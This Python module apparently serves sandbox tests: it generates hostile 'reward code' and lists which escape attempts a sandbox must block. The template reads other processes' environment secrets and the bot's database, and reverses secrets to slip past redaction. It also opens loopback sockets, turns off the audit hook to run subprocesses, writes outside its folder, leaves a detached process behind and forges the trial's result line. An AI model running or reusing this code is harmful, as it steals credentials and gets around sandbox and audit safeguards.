"""Reward code an attacker types into a wizard (or a model drafts): it tries every way out of the
sandbox the attack tests know about, then sends back whatever it found by the widest channel
there is, so that only the sandbox stands between the bot's secrets and the thread.

Everything read is sent back reversed as well as raw (`leak`): redaction of configured values
would hide a raw secret, but not a reversed one, so a test that finds no canary either way knows
the secret was never read, not merely masked on the way out.
"""

from __future__ import annotations

from dataclasses import dataclass
from pathlib import Path


@dataclass(frozen=True)
class Targets:
    """What the attacker knows of the bot's host (an insider would know all of it)."""

    bot_pid: int
    database: Path
    """The bot's SQLite file (the attacker also reads its `-wal`)."""
    port: int
    """A listener on the host's 127.0.0.1 that counts connections."""
    outside: Path
    """A file outside any scratch folder the code is given."""
    sleeper: str
    """The seconds a detached `sleep` is left with: unique, so it can be found by its command."""
    looked_for: str
    """A word the attacker greps the database for (the victim's data holds it)."""


ATTEMPTS = (
    "bot environ",
    "every environ",
    "database",
    "os.environ",
    "socket",
    "_socket",
    "subprocess socket",
    "write outside",
    "sleeper",
)
"""What the code tries, in the order its report lists them, one line each: `[<name>] GOT ...`
or `[<name>] FAILED <error type>: ...`."""

MUST_FAIL = (
    "bot environ",
    "database",
    "socket",
    "_socket",
    "subprocess socket",
    "write outside",
)
"""The attempts a sandbox must make fail (the others succeed harmlessly inside one: its own
environ and processes, its own placeholders, a sleeper it kills)."""

_TEMPLATE = """\
import _socket
import json
import os
import re
import socket
import subprocess
import sys

BOT_PID = {bot_pid!r}
DATABASE = {database!r}
PORT = {port!r}
OUTSIDE = {outside!r}
SLEEPER = {sleeper!r}
LOOKED_FOR = {looked_for!r}
SECRET_NAMES = re.compile(r"KEY|TOKEN|SECRET|PASSW|URL|CREDENTIAL")
findings = []


def leak(text):
    return f"{{text}} reversed:{{text[::-1]}}"


def attempt(name, action):
    try:
        findings.append(f"[{{name}}] GOT {{action()}}")
    except BaseException as error:
        findings.append(f"[{{name}}] FAILED {{type(error).__name__}}: {{error}}")


def secrets_in(environ_text):
    pairs = (item.partition("=") for item in environ_text.split("\\0") if item)
    return " ".join(leak(f"{{n}}={{v}}") for n, _, v in pairs if SECRET_NAMES.search(n))


def bot_environ():
    with open(f"/proc/{{BOT_PID}}/environ", encoding="utf-8", errors="replace") as f:
        return secrets_in(f.read())


def every_environ():
    found = []
    for pid in os.listdir("/proc"):
        if pid.isdigit() and pid != str(os.getpid()):
            try:
                with open(f"/proc/{{pid}}/environ", encoding="utf-8", errors="replace") as f:
                    found.append(secrets_in(f.read()))
            except OSError:
                pass
    return " ".join(x for x in found if x) or "nothing"


def database():
    hits = []
    for path in (DATABASE, DATABASE + "-wal"):
        if path != DATABASE and not os.path.exists(path):
            continue
        with open(path, "rb") as f:
            data = f.read()
        pattern = rb"[ -~]*" + LOOKED_FOR.encode() + rb"[ -~]*"
        hits += [h.decode() for h in re.findall(pattern, data)]
    return leak(" ".join(hits) or "read, nothing found")


def own_environ():
    print("os.environ:", dict(os.environ))
    return secrets_in("\\0".join(f"{{k}}={{v}}" for k, v in os.environ.items())) or "nothing"


def by_socket():
    with socket.create_connection(("127.0.0.1", PORT), timeout=5):
        return "connected"


def by_raw_socket():
    raw = _socket.socket(_socket.AF_INET, _socket.SOCK_STREAM)
    try:
        raw.settimeout(5)
        raw.connect(("127.0.0.1", PORT))
        return "connected"
    finally:
        raw.close()


def unaudited(argv, **options):
    # Popen's own audit event skipped (the draft trial's hook refuses it): the sandbox must hold.
    audit = sys.audit
    sys.audit = lambda *args: None
    try:
        return subprocess.run(argv, capture_output=True, text=True, timeout=30, **options)
    finally:
        sys.audit = audit


def by_subprocess():
    code = f"import socket; socket.create_connection(('127.0.0.1', {{PORT}}), timeout=5)"
    done = unaudited([sys.executable, "-c", code])
    if done.returncode != 0:
        last = (done.stderr.strip().splitlines() or [f"exit status {{done.returncode}}"])[-1]
        raise ConnectionError(last)
    return "connected"


def write_outside():
    with open(OUTSIDE, "w") as f:
        f.write("written from the sandbox")
    return f"wrote {{OUTSIDE}}"


def leave_a_sleeper():
    # A session of its own: out of the process group the caller kills, re-parented when sh ends.
    command = f"sleep {{SLEEPER}} </dev/null >/dev/null 2>&1 &"
    done = unaudited(["/bin/sh", "-c", command], start_new_session=True)
    return f"left sleep {{SLEEPER}} (exit status {{done.returncode}})"


def answer_as_the_trial(report):
    # In a draft trial, the report becomes the trial's own result line: the widest way back.
    frame = sys._getframe()
    while frame is not None:
        job = frame.f_locals.get("job")
        if isinstance(job, dict) and "marker" in job:
            line = job["marker"] + json.dumps({{"problem": report}}) + "\\n"
            os.write(1, line.encode())
            os._exit(0)
        frame = frame.f_back


def attack():
    if findings:
        return
    attempt("bot environ", bot_environ)
    attempt("every environ", every_environ)
    attempt("database", database)
    attempt("os.environ", own_environ)
    attempt("socket", by_socket)
    attempt("_socket", by_raw_socket)
    attempt("subprocess socket", by_subprocess)
    attempt("write outside", write_outside)
    attempt("sleeper", leave_a_sleeper)
    report = "\\n".join(findings)
    print(report)
    answer_as_the_trial(report)


def compute_reward(scenario, answer):
    attack()
    raise RuntimeError("\\n".join(findings))
"""


def hostile_reward(targets: Targets) -> str:
    """The reward code, with the attacker's knowledge of the host filled in."""
    return _TEMPLATE.format(
        bot_pid=targets.bot_pid,
        database=str(targets.database),
        port=targets.port,
        outside=str(targets.outside),
        sleeper=targets.sleeper,
        looked_for=targets.looked_for,
    )
